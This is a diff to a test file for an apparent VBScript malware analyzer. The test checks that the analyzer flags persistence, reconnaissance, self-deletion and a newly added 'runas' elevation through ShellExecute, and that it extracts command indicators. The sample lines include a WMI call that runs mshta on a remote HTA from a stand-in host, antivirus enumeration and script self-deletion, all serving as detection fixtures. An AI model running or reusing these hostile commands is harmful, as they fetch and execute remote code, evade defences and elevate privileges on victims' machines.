@@ -212,15 +212,18 @@ test('persistence and reconnaissance: Run key, scheduled task, WMI process creat
     'For Each av In wmi.ExecQuery("Select * From AntiVirusProduct") : n = av.displayName : Next',
     'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "mshta http://h.example/p.hta", Null, Null, pid',
     'CreateObject("Scripting.FileSystemObject").DeleteFile WScript.ScriptFullName',
+    'Set d = CreateObject("Scripting.Dictionary") : d.Item("cmd") = "C:\\Users\\Public\\u.exe"',
+    'CreateObject("Shell.Application").ShellExecute d("cmd"), "/install", "", "runas", 0',
   ].join('\r\n');
   const r = await run(script, 'u.vbs');
   const found = ids(r);
-  for (const id of ['vbscript.persistence.run-key', 'vbscript.persistence.scheduled-task', 'vbscript.wmi.query', 'vbscript.recon.security-products', 'vbscript.evasion.self-delete', 'vbscript.registry.write']) {
+  for (const id of ['vbscript.persistence.run-key', 'vbscript.persistence.scheduled-task', 'vbscript.wmi.query', 'vbscript.recon.security-products', 'vbscript.evasion.self-delete', 'vbscript.registry.write', 'vbscript.exec.elevation-prompt']) {
     assert.ok(found.has(id), id);
   }
   const cmds = iocs(r, 'command');
   assert.ok(cmds.includes('C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\u.bat'), 'the task action');
   assert.ok(cmds.includes('mshta http://h.example/p.hta'), 'Win32_Process.Create');
+  assert.ok(cmds.includes('C:\\Users\\Public\\u.exe /install'), 'ShellExecute of a path kept in a Dictionary');
   assert.ok(r.findings.some((f) => f.id === 'vbscript.exec.command' && f.evidence.startsWith('Win32_Process.Create')));
   const attack = new Set(r.findings.flatMap((f) => f.attack));
   for (const t of ['T1547.001', 'T1053.005', 'T1047', 'T1518.001', 'T1070.004']) assert.ok(attack.has(t), t);
